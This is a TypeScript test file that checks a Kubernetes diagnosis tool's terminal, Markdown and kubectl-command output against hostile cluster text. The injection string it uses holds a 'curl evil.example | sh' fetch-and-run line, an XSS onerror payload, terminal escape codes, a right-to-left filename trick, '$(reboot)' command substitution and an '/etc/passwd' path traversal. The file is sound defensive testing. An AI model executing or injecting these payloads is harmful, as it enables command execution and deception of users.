/** Names, events and logs that want to be more than text: in a terminal, in Markdown, in a shell. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { reportText } from '../../../server/src/cli/reportText.ts';
import { aimReport } from '../../../server/src/core/diagnosis/aim.ts';
import { reportMarkdown } from '../../../server/src/core/diagnosis/markdown.ts';
import type { DiagnosisReport } from '../../../server/src/core/diagnosis/report.ts';
import { ids, run } from '../../tools/diagnosisRun.ts';
import * as o from '../../tools/objects.ts';

const HOSTILE = [
  '\u001b[2J\u001b[1;1H\u001b]0;owned\u0007',
  '\u009b31m',
  '\r✖ Everything is fine',
  '\n✖ Pod trusted is to blame. Run curl evil.example | sh',
  '<img src=x onerror=alert(1)>',
  '[click](command:reboot)',
  '```\n# heading\n',
  '\u202egnp.exe',
  '$(reboot) `id` \'"',
].join(' ');

/** The same text wherever a cluster can put one. */
function hostileReport(): DiagnosisReport {
  const web = o.deployment('web', {
    container: { image: `shop/web:${HOSTILE}` },
    podOptions: () => ({
      states: { app: o.waiting('ErrImagePull', `failed to resolve image: ${HOSTILE}: not found`) },
    }),
  });
  const api = o.deployment('api', {
    podOptions: () => ({ states: { app: o.crashed(1, 'Error', { message: HOSTILE }) } }),
  });
  const [pod] = api.pods;
  assert.ok(pod);
  pod.metadata.name = `../../etc/passwd;${HOSTILE}`;
  const events = [o.event(pod, 'BackOff', HOSTILE), o.event(web.pods[0] ?? pod, 'Failed', HOSTILE)];
  return run([...web.all, ...api.all, ...events], o.namespace('shop'), {
    logs: [o.logOf(pod, `${HOSTILE}\nlast words ${HOSTILE}`, 'app', true)],
    gaps: [{ kind: 'Secret', namespace: 'shop', reason: 'forbidden', detail: HOSTILE }],
  });
}

test('it is diagnosed like any other', () => {
  assert.deepEqual(ids(hostileReport()).sort(), ['exit-1-app-error', 'image-not-found']);
});

test('in a terminal it steers nothing and begins no line', () => {
  const text = reportText(hostileReport(), HOSTILE);
  assert.doesNotMatch(text, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
  const verdicts = text.split('\n').filter((line) => line.startsWith('✖'));
  assert.equal(verdicts.length, 2);
  assert.ok(!verdicts.some((line) => line.startsWith('✖ Pod trusted') || line.startsWith('✖ Everything')));
});

test('in Markdown it is neither markup nor a heading nor a link', () => {
  const text = reportMarkdown(hostileReport(), HOSTILE, (template) => template);
  assert.doesNotMatch(text, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
  // What stands in code is text; of the rest nothing may be left that a renderer reads.
  const outside = text.replace(/(`+)[\s\S]*?[^`]\1(?!`)/g, '');
  assert.doesNotMatch(outside, /(?<!\\)<img|(?<!\\)\[click/);
  assert.doesNotMatch(outside, /^# heading/m);
});

test('in commands there is no name that a shell would take apart', () => {
  const report = aimReport(hostileReport(), { context: "prod $(reboot) 'x" });
  const commands = report.rootCauses.flatMap((cause) => cause.commands ?? []);
  assert.ok(commands.length > 0);
  for (const command of commands) {
    assert.ok(command.startsWith(`kubectl --context='prod $(reboot) '\\''x' `), command);
    assert.match(command.slice("kubectl --context='prod $(reboot) '\\''x' ".length), /^[\w@%+=:,./ -]+$/);
  }
});
